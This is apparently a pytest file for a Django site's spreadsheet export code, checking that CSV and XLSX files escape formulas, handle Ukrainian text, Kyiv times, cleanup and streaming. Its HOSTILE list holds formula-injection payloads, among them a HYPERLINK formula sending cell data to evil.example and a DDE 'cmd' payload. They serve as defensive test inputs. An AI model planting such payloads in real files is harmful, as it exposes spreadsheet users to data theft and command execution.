"""Files that leave the site: what a spreadsheet makes of them, and what it must not."""

import csv
import tempfile
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, date, datetime
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.signals import request_finished
from django.db import close_old_connections
from django.utils import translation
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from community.core.exports.cells import csv_cell
from community.core.exports.delimited import csv_stream
from community.core.exports.responses import sheet_response
from community.core.exports.sheets import CHUNK_SIZE, Sheet
from community.core.exports.workbook import xlsx_file


@pytest.fixture(autouse=True)
def _no_database() -> Iterator[None]:
    """The end of an answer looks at database connections, as Django's own test client prevents."""
    request_finished.disconnect(close_old_connections)
    yield
    request_finished.connect(close_old_connections)


HOSTILE = [
    "=1+1",
    "+380671234567",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("https://evil.example/?"&A1;"натисніть")',
    "=cmd|'/C calc'!A0",
]


def sheet_of(*values: Any) -> Sheet:
    return Sheet("Учасники опитувань", ["Значення"], ([value] for value in values))


def read_csv(sheet: Sheet) -> list[list[str]]:
    return list(csv.reader(StringIO(b"".join(csv_stream(sheet)).decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(content: Any) -> list[tuple[Any, ...]]:
    return [tuple(cell for cell in row) for row in load_workbook(content).worksheets[0].iter_rows()]


def test_csv_is_what_a_ukrainian_excel_opens_by_double_click() -> None:
    content = b"".join(csv_stream(Sheet("Реєстр", ["Питання", "Голос"], [["Парк; сквер", 'каже «так» і "ні"']])))
    assert content == '\ufeffПитання;Голос\r\n"Парк; сквер";"каже «так» і ""ні"""\r\n'.encode()


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_csv_is_a_formula(text: str) -> None:
    assert read_csv(sheet_of(text))[1] == [f"'{text}"]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_workbook_is_a_formula(text: str) -> None:
    [cell] = read_xlsx(xlsx_file(sheet_of(text)))[1]
    assert cell.data_type != "f"
    assert cell.value.replace("\r", "\n").replace("_x000D_", "\n") == text.replace("\r", "\n")
    assert cell.quotePrefix


def test_headings_cannot_smuggle_a_formula_either() -> None:
    sheet = Sheet("Реєстр", ["=1+1"], [])
    assert read_csv(sheet) == [["'=1+1"]]
    assert read_xlsx(xlsx_file(sheet))[0][0].data_type == "s"


@pytest.mark.parametrize("value", [-5, 0, 3.5, True])
def test_numbers_stay_numbers(value: Any) -> None:
    assert read_xlsx(xlsx_file(sheet_of(value)))[1][0].value == value
    assert read_csv(sheet_of(value))[1] == [str(value)]


def test_control_characters_do_not_break_the_file() -> None:
    text = "до\x00 і\x0bпісля\ud800\ufffe"
    assert read_csv(sheet_of(text))[1] == ["до іпісля"]
    assert read_xlsx(xlsx_file(sheet_of(text)))[1][0].value == "до іпісля"


@pytest.mark.parametrize(
    ("moment", "kyiv"),
    [
        (datetime(2026, 1, 31, 22, 30, 5, tzinfo=UTC), datetime(2026, 2, 1, 0, 30, 5)),  # noqa: DTZ001 - naive is meant
        (datetime(2026, 7, 31, 21, 30, 5, tzinfo=UTC), datetime(2026, 8, 1, 0, 30, 5)),  # noqa: DTZ001 - naive is meant
    ],
)
def test_times_are_those_of_kyiv_in_winter_and_summer(moment: datetime, kyiv: datetime) -> None:
    cell = read_xlsx(xlsx_file(sheet_of(moment)))[1][0]
    assert (cell.value, cell.is_date, cell.number_format) == (kyiv, True, "dd.mm.yyyy hh:mm:ss")
    assert read_csv(sheet_of(moment))[1] == [f"{kyiv:%d.%m.%Y %H:%M:%S}"]


def test_a_day_is_a_date_that_excel_can_sort() -> None:
    cell = read_xlsx(xlsx_file(sheet_of(date(2026, 8, 24))))[1][0]
    assert (cell.value, cell.is_date, cell.number_format) == (datetime(2026, 8, 24), True, "dd.mm.yyyy")  # noqa: DTZ001 - a day has no zone
    assert csv_cell(date(2026, 8, 24)) == "24.08.2026"


def test_empty_values_are_empty_cells() -> None:
    sheet = Sheet("Реєстр", ["А", "Б"], [[None, "так"]])
    assert read_csv(sheet)[1] == ["", "так"]


def test_the_language_of_the_request_outlives_the_request() -> None:
    rows = [[gettext_lazy("Yes")]] * (CHUNK_SIZE + 1)
    with translation.override("uk"):
        stream = csv_stream(Sheet("Реєстр", ["Відповідь"], rows))
    with translation.override("en"):
        lines = b"".join(stream).decode("utf-8-sig").splitlines()
    assert set(lines[1:]) == {"Так"}


def test_the_file_is_named_by_register_and_day_in_latin_letters() -> None:
    response = sheet_response(sheet_of("так"), "xlsx")
    name = response["Content-Disposition"]
    response.close()
    assert name.startswith('attachment; filename="uchasnyky-opytuvan-20')
    assert name.endswith('.xlsx"')


def test_a_register_too_long_for_one_page_of_excel_goes_on_in_the_next() -> None:
    book = load_workbook(xlsx_file(sheet_of("а", "б", "в"), rows_per_sheet=2))
    assert [[cell.value for cell in page["A"]] for page in book] == [["Значення", "а", "б"], ["Значення", "в"]]


def broken_rows() -> Iterator[list[str]]:
    yield ["перший"]
    raise RuntimeError("the database went away")


def test_a_failed_export_leaves_no_file_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with pytest.raises(RuntimeError, match="the database went away"):
        xlsx_file(Sheet("Реєстр", ["А"], broken_rows()))
    assert list(tmp_path.iterdir()) == []


def test_a_sent_workbook_leaves_no_file_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    response = sheet_response(sheet_of("так"), "xlsx")
    content = b"".join(response)
    response.close()
    assert read_xlsx(BytesIO(content))[1][0].value == "так"
    assert list(tmp_path.iterdir()) == []


def test_a_client_that_goes_away_stops_the_reading() -> None:
    state = {"read": 0, "closed": False}

    def rows() -> Iterator[list[int]]:
        try:
            for number in range(100_000):
                state["read"] = number
                yield [number]
        finally:
            state["closed"] = True

    response = sheet_response(Sheet("Реєстр", ["А"], rows()), "csv")
    chunks = iter(response)
    next(chunks)
    next(chunks)
    del chunks
    response.close()
    assert state["closed"]
    assert state["read"] < 2 * CHUNK_SIZE


def peak_of(work: Any) -> int:
    tracemalloc.start()
    try:
        work()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_memory_does_not_grow_with_the_register(file_format: str) -> None:
    def export(rows: int) -> int:
        def work() -> None:
            sheet = Sheet("Реєстр", ["А", "Б"], ([f"вулиця Шевченка, {number}", number] for number in range(rows)))
            response = sheet_response(sheet, file_format)
            for _piece in response:
                pass
            response.close()

        return peak_of(work)

    export(10)
    small, large = export(1_000), export(10_000)
    assert large < small + 1_000_000
